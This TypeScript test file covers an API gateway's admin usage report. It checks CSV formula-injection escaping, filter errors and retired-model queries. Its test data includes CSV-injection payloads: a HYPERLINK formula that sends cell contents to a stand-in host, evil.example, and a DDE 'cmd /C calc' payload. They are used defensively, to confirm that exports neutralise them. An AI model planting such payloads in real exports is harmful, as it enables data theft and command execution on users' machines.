import { bearer } from '../helpers/admin-tokens';
import { ADMIN_SECRET, type TestGateway, localRequest, startTestGateway } from '../helpers/test-gateway';
import { bucketStartOf } from '../../src/usage/usage-query';

const HOUR = 3_600_000;

/** RFC 4180 records of a CSV document (quoted fields unquoted, doubled quotes undone). */
function csvRecords(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((field += '"'), i++);
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') (record.push(field), (field = ''));
    else if (c === '\r' && text[i + 1] === '\n') (record.push(field), records.push(record), (record = []), (field = ''), i++);
    else field += c;
  }
  return records;
}

/** Issue #39 §2, §4 and §19: the edges of GET /admin/usage (getUsageReport). */
describe('usage report edges (getUsageReport)', () => {
  let t: TestGateway;
  let range = '';
  const owners = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+1+1', '-2+3', '@SUM(1+1)', '\tTAB', '\rCR', 'plain@example.com'];
  const team = `@SUM(1+1)*cmd|' /C calc'!A0`;

  beforeAll(async () => {
    t = await startTestGateway();
    const from = bucketStartOf(t.clock.now(), 'hour');
    for (const owner of owners) {
      const { key } = await t.createKey({ owner, metadata: { team } });
      expect((await t.api.client(key, localRequest())).status).toBe(200);
    }
    range = `from=${new Date(from).toISOString()}&to=${new Date(from + HOUR).toISOString()}`;
  });
  afterAll(() => t.close());

  const usage = (query: string, headers: Record<string, string> = {}) =>
    t.api.send('get', `/admin/usage?${range}${query}`, { headers: { ...bearer(ADMIN_SECRET), ...headers } });

  it('CSV: a text cell that a spreadsheet would run as a formula starts with a quote; numbers and JSON stay as they are', async () => {
    const csv = await usage('&group_by=owner,metadata.team', { Accept: 'text/csv' });
    expect(csv.status).toBe(200);
    const [header, ...rows] = csvRecords(csv.text);
    expect(header?.slice(0, 3)).toEqual(['owner', 'metadata.team', 'requests']);
    const cells = new Map(rows.map((row) => [row[0], row]));
    for (const owner of owners) {
      const expected = owner === 'plain@example.com' ? owner : `'${owner}`;
      expect(cells.get(expected)?.slice(1, 3)).toEqual([`'${team}`, '1']);
    }
    // No cell of the document begins with a formula character.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const json = await usage('&group_by=owner,metadata.team');
    expect(json.status).toBe(200);
    expect(json.body.data.map((row: { owner: string }) => row.owner).sort()).toEqual([...owners].sort());
    expect(json.body.data.every((row: { metadata: Record<string, string> }) => row.metadata.team === team)).toBe(true);
  });

  it('a model filter naming no model of the catalog and none with usage: 400 invalid_request naming model', async () => {
    const res = await usage('&model=seedream-nonexistent');
    expect([res.status, res.body.error.code, res.body.error.param]).toEqual([400, 'invalid_request', 'model']);
    expect(res.body.error.message).toContain('local-1');
    const csv = await usage('&model=seedream-nonexistent', { Accept: 'text/csv' });
    expect([csv.status, csv.body.error?.param]).toEqual([400, 'model']);
    // A model of the catalog without usage in the range is a question with an answer: zero.
    const quiet = await usage('&model=jimeng-4.0');
    expect([quiet.status, quiet.body.data[0].requests]).toEqual([200, 0]);
    expect((await usage('&model=local-1')).body.data[0].requests).toBe(owners.length);
  });

  it('a model no longer in the catalog that has usage stays queryable', async () => {
    // The history of a model since removed from the catalog: its rollups stay.
    const day = bucketStartOf(t.clock.now(), 'day') - 86_400_000;
    await t.gateway.database.db
      .insertInto('usage_day_totals')
      .values({
        day_start: day,
        model: 'retired-model',
        provider: 'local',
        channel_id: '',
        status: 'succeeded',
        error_code: '',
        requests: 4,
        images: 4,
        credits: 4,
      })
      .execute();
    const res = await t.api.send('get', `/admin/usage?from=${new Date(day).toISOString()}&to=${new Date(day + 86_400_000).toISOString()}&model=retired-model`, {
      headers: bearer(ADMIN_SECRET),
    });
    expect([res.status, res.body.data[0].requests, res.body.data[0].credits_charged]).toEqual([200, 4, 4]);
  });
});
